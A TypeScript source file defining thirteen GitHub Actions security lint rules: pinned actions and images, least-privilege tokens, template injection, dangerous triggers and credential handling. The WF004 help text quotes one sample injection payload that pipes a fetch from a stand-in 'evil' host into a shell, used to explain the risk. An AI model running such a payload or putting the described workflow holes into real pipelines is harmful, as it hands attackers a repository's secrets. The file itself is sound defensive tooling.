/**
 * WF: GitHub workflow security (the user's workflows and this project's own), as data. Each rule
 * reads the workflows the loader validated and returns one check per thing it judged, located at
 * the line to edit. Aligned ids: zizmor audits and checkov policies covering the same ground.
 */
import type { Check, ChecklistInputs, Rule } from '../types.js';
import { expansionsIn, inputName, isUntrustedGithubContext } from './workflow-expressions.js';
import {
  actionOf,
  isRecord,
  jobsOf,
  locateOffset,
  makeCheck,
  stepsOf,
  stepSubject,
  subjectOf,
  triggersOf,
  withOf,
  type Workflow,
  type WorkflowStep,
} from './workflow-walk.js';

type RuleBody = Omit<Rule, 'group' | 'item' | 'needs' | 'check'> & { perWorkflow: (doc: Workflow) => Check[] };

function wfRule(body: RuleBody): Rule {
  const { perWorkflow, ...rest } = body;
  return {
    ...rest,
    group: 'WF',
    item: 'workflows',
    needs: ['workflows'],
    check: (inputs: ChecklistInputs) => (inputs.workflows ?? []).flatMap(perWorkflow),
  };
}

const SHA = /^[0-9a-f]{40}$/i;
const DIGEST = /@sha256:[0-9a-f]{64}$/i;
const DANGEROUS_TRIGGERS = ['pull_request_target', 'workflow_run'];

function usesPinned(uses: string): boolean {
  if (uses.startsWith('./')) return true;
  if (uses.startsWith('docker://')) return DIGEST.test(uses);
  const at = uses.lastIndexOf('@');
  return at > 0 && SHA.test(uses.slice(at + 1));
}

function checkUses(doc: Workflow, path: Array<string | number>, uses: unknown, subject: string): Check[] {
  if (typeof uses !== 'string') return [];
  const pinned = usesPinned(uses);
  const why = uses.startsWith('docker://') ? 'an image without a digest' : 'a tag or branch that can be moved';
  return [makeCheck(doc, path, pinned, pinned ? `${subject} uses ${uses}, pinned` : `${subject} uses ${uses}: ${why}, not a commit SHA`, subject)];
}

const unpinnedUses = wfRule({
  id: 'WF001',
  severity: 'error',
  title: 'Actions and reusable workflows are pinned by commit SHA',
  help: 'A tag or branch can be moved by whoever controls the action repository (tj-actions/changed-files, 2025): the next run executes their code with your secrets. A 40-hex commit SHA cannot be moved. Local actions (./) and docker:// images pinned by @sha256 digest pass.',
  fix: 'Replace the tag with the commit SHA it points to and keep the version in a comment: `uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0`.',
  aligned: { zizmor: ['unpinned-uses'] },
  perWorkflow: (doc) => [
    ...jobsOf(doc).flatMap((job) => checkUses(doc, [...job.path, 'uses'], job.job.uses, subjectOf(doc, job.id))),
    ...stepsOf(doc).flatMap((step) => checkUses(doc, [...step.path, 'uses'], step.step.uses, stepSubject(step))),
  ],
});

function imageChecks(doc: Workflow, path: Array<string | number>, image: unknown, subject: string): Check[] {
  // An expression (`${{ matrix.image }}`) cannot be judged here; a digest is visible only in text.
  if (typeof image !== 'string' || image.includes('${{')) return [];
  const pinned = DIGEST.test(image);
  return [makeCheck(doc, path, pinned, pinned ? `${subject} runs ${image}, pinned` : `${subject} runs image ${image}, not pinned by digest`, subject)];
}

const unpinnedImages = wfRule({
  id: 'WF002',
  severity: 'error',
  title: 'Job containers and service images are pinned by digest',
  help: 'A job container or service runs with the job\'s token and secrets in reach; a tag can be re-pushed to other bytes. A digest (@sha256:...) names exactly one image.',
  fix: 'Pin the image by digest and keep the tag for readers: `image: postgres:16@sha256:<digest>`.',
  aligned: { zizmor: ['unpinned-images'] },
  perWorkflow: (doc) =>
    jobsOf(doc).flatMap((job) => {
      const subject = subjectOf(doc, job.id);
      const container = job.job.container;
      const containerPath = isRecord(container) ? [...job.path, 'container', 'image'] : [...job.path, 'container'];
      const services = isRecord(job.job.services) ? Object.entries(job.job.services) : [];
      return [
        ...imageChecks(doc, containerPath, isRecord(container) ? container.image : container, `${subject} container`),
        ...services.flatMap(([name, service]) =>
          imageChecks(doc, [...job.path, 'services', name, 'image'], isRecord(service) ? service.image : service, `${subject} service ${name}`),
        ),
      ];
    }),
});

function broadGrant(doc: Workflow, path: Array<string | number>, permissions: unknown, subject: string, level: 'workflow' | 'job'): Check[] {
  if (permissions === 'write-all' || permissions === 'read-all') {
    return [makeCheck(doc, path, false, `${subject} grants permissions: ${permissions}`, subject)];
  }
  // With one job, a workflow-level grant is that job's grant (zizmor agrees: pedantic only).
  if (level === 'workflow' && isRecord(permissions) && jobsOf(doc).length > 1) {
    const writes = Object.entries(permissions).filter(([, access]) => access === 'write');
    return writes.map(([scope]) =>
      makeCheck(doc, [...path, scope], false, `${subject} grants ${scope}: write to every job; grant it in the job that needs it`, subject),
    );
  }
  return [];
}

const excessivePermissions = wfRule({
  id: 'WF003',
  severity: 'error',
  title: 'The workflow token has least-privilege permissions',
  help: 'Without a `permissions:` block a job gets the repository\'s default token, read-write on many repositories, and every step (and every action it pins) can push code, publish releases or approve pull requests. `permissions: {}` or read scopes at the top and per-job write grants keep each job to what it needs; write-all, read-all and workflow-level writes do not.',
  fix: 'Add `permissions: contents: read` (or `{}`) at the top of the workflow and grant writes per job with a comment saying why (`pull-requests: write # sticky comment`).',
  aligned: { zizmor: ['excessive-permissions'], checkov: ['CKV2_GHA_1'] },
  perWorkflow: (doc) => {
    const subject = subjectOf(doc);
    const top = doc.value.permissions;
    const jobs = jobsOf(doc);
    const checks: Check[] = [];
    if (top === undefined) {
      const bare = jobs.filter((job) => job.job.permissions === undefined);
      checks.push(
        ...bare.map((job) =>
          makeCheck(doc, job.path, false, `${subjectOf(doc, job.id)} has no permissions and the workflow sets none: the token gets the repository default`, subjectOf(doc, job.id)),
        ),
      );
      if (bare.length === 0) checks.push(makeCheck(doc, ['jobs'], true, `${subject} sets permissions on every job`, subject));
    } else {
      const broad = broadGrant(doc, ['permissions'], top, subject, 'workflow');
      checks.push(...(broad.length > 0 ? broad : [makeCheck(doc, ['permissions'], true, `${subject} sets least-privilege top-level permissions`, subject)]));
    }
    for (const job of jobs) checks.push(...broadGrant(doc, [...job.path, 'permissions'], job.job.permissions, subjectOf(doc, job.id), 'job'));
    return checks;
  },
});

// Action inputs that are code (zizmor's and CodeQL's injection sinks for the common script actions).
const SCRIPT_INPUTS: Record<string, string> = {
  'actions/github-script': 'script',
  'amadevus/pwsh-script': 'script',
  'azure/cli': 'inlineScript',
  'azure/powershell': 'inlineScript',
  'cardinalby/js-eval-action': 'expression',
  'jannekem/run-python-script-action': 'script',
  'mikefarah/yq': 'cmd',
};

/** Where code is written from expressions: `run:` and the script inputs of script actions. */
function scriptsOf(step: WorkflowStep): Array<{ path: Array<string | number>; text: string }> {
  if (typeof step.step.run === 'string') return [{ path: [...step.path, 'run'], text: step.step.run }];
  const input = SCRIPT_INPUTS[actionOf(step.step.uses) ?? ''];
  const script = input ? withOf(step.step)[input] : undefined;
  return typeof script === 'string' ? [{ path: [...step.path, 'with', input], text: script }] : [];
}

function expansionChecks(doc: Workflow, what: string, judge: (context: string) => string | undefined): Check[] {
  return stepsOf(doc).flatMap((step) =>
    scriptsOf(step).flatMap(({ path, text }) => {
      const subject = stepSubject(step);
      const bad = expansionsIn(text).flatMap((expansion) =>
        expansion.contexts.flatMap((context) => {
          const why = judge(context);
          return why ? [makeCheck(doc, path, false, `${subject} expands ${expansion.text} into its script: ${why}`, subject, locateOffset(doc, path, text, expansion.offset))] : [];
        }),
      );
      return bad.length > 0 ? bad : [makeCheck(doc, path, true, `${subject} expands no ${what} into its script`, subject)];
    }),
  );
}

function untrustedEvent(context: string): string | undefined {
  return isUntrustedGithubContext(context) ? `${context} can be chosen by whoever triggers the run` : undefined;
}

const templateInjection = wfRule({
  id: 'WF004',
  severity: 'error',
  title: 'No untrusted event data is expanded inside run: scripts',
  help: '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code with the job\'s token and secrets. Event fields an outsider writes (titles, bodies, comments, branch names, commit messages, author names) and every github.* context not known to be fixed (zizmor\'s list) count as untrusted; the script inputs of script actions (actions/github-script script, azure/cli inlineScript, mikefarah/yq cmd, ...) are scripts too.',
  fix: 'Pass the value through the step\'s env: and use the variable, quoted: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`.',
  aligned: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'] },
  perWorkflow: (doc) => expansionChecks(doc, 'untrusted event data', untrustedEvent),
});

/** Types of declared inputs (workflow_dispatch and workflow_call); an input without a type is a string. */
function inputTypes(doc: Workflow): Map<string, string> {
  const types = new Map<string, string>();
  const on = doc.value.on;
  for (const event of ['workflow_dispatch', 'workflow_call']) {
    const inputs = isRecord(on) && isRecord(on[event]) ? on[event].inputs : undefined;
    if (!isRecord(inputs)) continue;
    for (const [name, spec] of Object.entries(inputs)) {
      const type = isRecord(spec) && typeof spec.type === 'string' ? spec.type : 'string';
      if (types.get(name.toLowerCase()) !== 'string') types.set(name.toLowerCase(), type);
    }
  }
  return types;
}

const stringInputInjection = wfRule({
  id: 'WF005',
  severity: 'warning',
  title: 'String inputs reach run: scripts through env:, not ${{ }}',
  help: 'A workflow_dispatch or workflow_call string input is text the caller chose; expanded into a script it is code. Boolean, number, choice and environment inputs cannot carry code and pass.',
  fix: 'Pass the input through env: (`env: { SPEC: ${{ inputs.spec }} }`) and use "$SPEC" in the script.',
  aligned: { zizmor: ['template-injection'] },
  perWorkflow: (doc) => {
    const types = inputTypes(doc);
    return expansionChecks(doc, 'string input', (context) => {
      const name = inputName(context);
      if (name === undefined) return undefined;
      const type = types.get(name.toLowerCase()) ?? 'string';
      return type === 'string' ? `${context} is a string input its caller chose` : undefined;
    });
  },
});

// `ref:` values and commands that bring a pull request's (or a triggering run's) code into the job.
const PR_HEAD = /github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.pull_request\.merge_commit_sha|github\.event\.workflow_run\.head_(sha|branch|commit\.id)|refs\/pull\//i;
const PR_HEAD_REPOSITORY = /github\.event\.pull_request\.head\.repo\.|github\.event\.workflow_run\.head_repository\./i;
const PR_CHECKOUT_COMMAND = /\bgh\s+pr\s+checkout\b|\bgit\s+(fetch|checkout|switch|pull)\b[^\n]*(refs\/pull\/|github\.event\.pull_request\.head|github\.head_ref|github\.event\.workflow_run\.head_)/i;

function checksOutPullRequest(step: WorkflowStep): 'ref' | 'repository' | 'run' | undefined {
  if (actionOf(step.step.uses) === 'actions/checkout') {
    const { ref, repository } = withOf(step.step);
    if (typeof ref === 'string' && PR_HEAD.test(ref)) return 'ref';
    if (typeof repository === 'string' && PR_HEAD_REPOSITORY.test(repository)) return 'repository';
  }
  if (typeof step.step.run === 'string' && PR_CHECKOUT_COMMAND.test(step.step.run)) return 'run';
  return undefined;
}

const dangerousTriggers = wfRule({
  id: 'WF006',
  severity: 'error',
  title: 'No pull_request_target or workflow_run job checks out the pull request\'s code',
  help: 'pull_request_target and workflow_run run in the base repository with its secrets and a write token. Checking out the pull request\'s head there runs an outsider\'s code (build scripts, package hooks) with them: a "pwn request".',
  fix: 'Build and test the pull request under `pull_request` (no secrets for forks); keep pull_request_target jobs to metadata (labels, comments) and never check out the head there.',
  aligned: { zizmor: ['dangerous-triggers'] },
  perWorkflow: (doc) => {
    const triggers = DANGEROUS_TRIGGERS.filter((trigger) => triggersOf(doc).has(trigger));
    if (triggers.length === 0) return [];
    const subject = subjectOf(doc);
    const bad = stepsOf(doc).flatMap((step) => {
      const where = checksOutPullRequest(step);
      if (!where) return [];
      const path = where === 'run' ? [...step.path, 'run'] : [...step.path, 'with', where];
      return [makeCheck(doc, path, false, `${stepSubject(step)} checks out the pull request's code in a ${triggers.join('/')} workflow`, stepSubject(step))];
    });
    return bad.length > 0 ? bad : [makeCheck(doc, ['on'], true, `${subject} runs on ${triggers.join('/')} without checking out pull request code`, subject)];
  },
});

const secretsInherit = wfRule({
  id: 'WF007',
  severity: 'error',
  title: 'Reusable workflows get secrets by name, not secrets: inherit',
  help: '`secrets: inherit` hands every secret of the caller to the called workflow (and whatever it pins), not just the ones it needs.',
  fix: 'Pass each secret the called workflow declares: `secrets: { registry-password: ${{ secrets.REGISTRY_PASSWORD }} }`.',
  aligned: { zizmor: ['secrets-inherit'] },
  perWorkflow: (doc) =>
    jobsOf(doc)
      .filter((job) => typeof job.job.uses === 'string')
      .map((job) => {
        const subject = subjectOf(doc, job.id);
        const inherits = job.job.secrets === 'inherit';
        return makeCheck(doc, inherits ? [...job.path, 'secrets'] : [...job.path, 'uses'], !inherits, inherits ? `${subject} passes secrets: inherit` : `${subject} passes secrets by name`, subject);
      }),
});

const persistedCredentials = wfRule({
  id: 'WF008',
  severity: 'warning',
  title: 'actions/checkout does not persist the token (persist-credentials: false)',
  help: 'By default actions/checkout writes the job\'s token into .git/config, where every later step, and any artifact that uploads the workspace, can read it.',
  fix: 'Add `with: { persist-credentials: false }` to the checkout step; steps that push authenticate explicitly.',
  aligned: { zizmor: ['artipacked'] },
  perWorkflow: (doc) =>
    stepsOf(doc)
      .filter((step) => actionOf(step.step.uses) === 'actions/checkout')
      .map((step) => {
        const value = withOf(step.step)['persist-credentials'];
        const off = value === false || value === 'false';
        const path = value === undefined ? [...step.path, 'uses'] : [...step.path, 'with', 'persist-credentials'];
        return makeCheck(doc, path, off, off ? `${stepSubject(step)} does not persist credentials` : `${stepSubject(step)} leaves the token in .git/config`, stepSubject(step));
      }),
});

// Inputs of the cloud login actions that take a long-lived key instead of an OIDC federation.
const STATIC_CLOUD_KEYS: Record<string, string[]> = {
  'aws-actions/configure-aws-credentials': ['aws-access-key-id', 'aws-secret-access-key'],
  'google-github-actions/auth': ['credentials_json'],
  'azure/login': ['creds'],
};

const longLivedCloudKeys = wfRule({
  id: 'WF009',
  severity: 'error',
  title: 'Cloud logins use OIDC, not long-lived keys',
  help: 'A stored access key works from anywhere until someone rotates it; an OIDC token is minted per run, scoped by the cloud\'s trust policy to this repository and branch, and expires in minutes.',
  fix: 'Grant `id-token: write` to the job and use role-to-assume (AWS), workload_identity_provider (Google) or client-id/tenant-id/subscription-id (Azure) instead of the key.',
  aligned: {},
  perWorkflow: (doc) =>
    stepsOf(doc).flatMap((step) => {
      const keys = STATIC_CLOUD_KEYS[actionOf(step.step.uses) ?? ''];
      if (!keys) return [];
      const given = keys.filter((key) => withOf(step.step)[key] !== undefined);
      const subject = stepSubject(step);
      if (given.length === 0) return [makeCheck(doc, [...step.path, 'uses'], true, `${subject} logs in with OIDC`, subject)];
      return [makeCheck(doc, [...step.path, 'with', given[0]], false, `${subject} logs in with a long-lived key (${given.join(', ')})`, subject)];
    }),
});

function insecureCommandChecks(doc: Workflow, path: Array<string | number>, env: unknown, subject: string): Check[] {
  if (!isRecord(env) || !('ACTIONS_ALLOW_UNSECURE_COMMANDS' in env)) return [];
  const value = env.ACTIONS_ALLOW_UNSECURE_COMMANDS;
  const off = value === false || (typeof value === 'string' && value.trim().toLowerCase() === 'false');
  return [makeCheck(doc, [...path, 'env', 'ACTIONS_ALLOW_UNSECURE_COMMANDS'], off, `${subject} sets ACTIONS_ALLOW_UNSECURE_COMMANDS: ${String(value)}`, subject)];
}

const insecureCommands = wfRule({
  id: 'WF010',
  severity: 'error',
  title: 'Insecure workflow commands stay disabled',
  help: 'ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path, which let anything printed to the log (a test name, a file from a pull request) set environment variables such as LD_PRELOAD or NODE_OPTIONS for later steps.',
  fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH from trusted values.',
  aligned: { zizmor: ['insecure-commands'], checkov: ['CKV_GHA_1'] },
  perWorkflow: (doc) => [
    ...insecureCommandChecks(doc, [], doc.value.env, subjectOf(doc)),
    ...jobsOf(doc).flatMap((job) => insecureCommandChecks(doc, job.path, job.job.env, subjectOf(doc, job.id))),
    ...stepsOf(doc).flatMap((step) => insecureCommandChecks(doc, step.path, step.step.env, stepSubject(step))),
  ],
});

// A write to the environment files: `>> $GITHUB_ENV`, `>> "${GITHUB_PATH}"`, `| tee -a $GITHUB_ENV`, PowerShell `$env:GITHUB_ENV`.
const ENV_FILE_WRITE = /(>>?|\btee\b[^|\n]*|Out-File[^|\n]*|Add-Content[^|\n]*|Set-Content[^|\n]*)\s*["']?(\$\{?|\$env:|%)(GITHUB_ENV|GITHUB_PATH)\b/i;
// zizmor's exception: `echo` of literal words only cannot carry data from elsewhere.
const LITERAL_ECHO = /^\s*echo\s+(?:[^$`"'\s]+|'[^']*'|"[^"$`]*")(?:\s+(?:[^$`"'\s]+|'[^']*'|"[^"$`]*"))*\s*>>?\s*["']?\$\{?GITHUB_(ENV|PATH)\}?["']?\s*$/;

const githubEnv = wfRule({
  id: 'WF011',
  severity: 'error',
  title: 'No data reaches GITHUB_ENV or GITHUB_PATH in pull_request_target / workflow_run workflows',
  help: 'A line written to $GITHUB_ENV or $GITHUB_PATH sets the environment of every later step (LD_PRELOAD, NODE_OPTIONS, PATH). In workflows that run with the base repository\'s secrets on an outsider\'s event, data derived from that event or its artifacts must never get there.',
  fix: 'Pass values between steps through step outputs ($GITHUB_OUTPUT) and env: of the step that needs them, or move the work to a pull_request workflow.',
  aligned: { zizmor: ['github-env'] },
  perWorkflow: (doc) => {
    if (!DANGEROUS_TRIGGERS.some((trigger) => triggersOf(doc).has(trigger))) return [];
    return stepsOf(doc).flatMap((step) => {
      if (typeof step.step.run !== 'string') return [];
      const run = step.step.run;
      const path = [...step.path, 'run'];
      const subject = stepSubject(step);
      const lines = run.split('\n');
      const bad = lines.flatMap((line, n) => {
        if (!ENV_FILE_WRITE.test(line) || LITERAL_ECHO.test(line)) return [];
        const offset = lines.slice(0, n).join('\n').length + (n > 0 ? 1 : 0);
        return [makeCheck(doc, path, false, `${subject} writes to ${/GITHUB_PATH/i.test(line) ? 'GITHUB_PATH' : 'GITHUB_ENV'}: ${line.trim()}`, subject, locateOffset(doc, path, run, offset))];
      });
      return bad.length > 0 ? bad : [makeCheck(doc, path, true, `${subject} writes no data to GITHUB_ENV or GITHUB_PATH`, subject)];
    });
  },
});

const timeoutMinutes = wfRule({
  id: 'WF012',
  severity: 'warning',
  title: 'Every job sets timeout-minutes',
  help: 'A job without timeout-minutes runs for up to six hours when a step hangs (a registry that never answers, a cluster that never becomes ready), holding the runner, any deploy lock and its concurrency group.',
  fix: 'Set `timeout-minutes:` on the job to a few times its usual duration.',
  aligned: { zizmor: ['timeout-minutes', 'missing-timeout'] },
  perWorkflow: (doc) =>
    jobsOf(doc)
      .filter((job) => job.job.uses === undefined)
      .map((job) => {
        const subject = subjectOf(doc, job.id);
        const set = job.job['timeout-minutes'] !== undefined;
        return makeCheck(doc, set ? [...job.path, 'timeout-minutes'] : job.path, set, set ? `${subject} sets timeout-minutes` : `${subject} has no timeout-minutes`, subject);
      }),
});

const concurrencyLimits = wfRule({
  id: 'WF013',
  severity: 'warning',
  title: 'Every job runs under a concurrency group',
  help: 'Without `concurrency:` two runs of the same workflow (two pushes, a re-run, a pull request synchronised twice) deploy, comment or tear down at the same time and race. A workflow-level or job-level group serialises them; cancel-in-progress is the author\'s choice (deploys and teardowns should not be cancelled). Workflows only called by others take their caller\'s.',
  fix: 'Add `concurrency: { group: ${{ github.workflow }}-${{ github.ref }} }` at the top (or per job, e.g. per pull request for previews).',
  aligned: { zizmor: ['concurrency-limits'] },
  perWorkflow: (doc) => {
    const triggers = triggersOf(doc);
    if (triggers.size === 1 && triggers.has('workflow_call')) return [];
    const workflowLevel = doc.value.concurrency !== undefined;
    return jobsOf(doc).map((job) => {
      const subject = subjectOf(doc, job.id);
      if (job.job.concurrency !== undefined) return makeCheck(doc, [...job.path, 'concurrency'], true, `${subject} sets a concurrency group`, subject);
      if (workflowLevel) return makeCheck(doc, ['concurrency'], true, `${subject} runs under the workflow's concurrency group`, subject);
      return makeCheck(doc, job.path, false, `${subject} has no concurrency group (neither the job nor the workflow sets one)`, subject);
    });
  },
});

export const rules: Rule[] = [
  unpinnedUses,
  unpinnedImages,
  excessivePermissions,
  templateInjection,
  stringInputInjection,
  dangerousTriggers,
  secretsInherit,
  persistedCredentials,
  longLivedCloudKeys,
  insecureCommands,
  githubEnv,
  timeoutMinutes,
  concurrencyLimits,
];
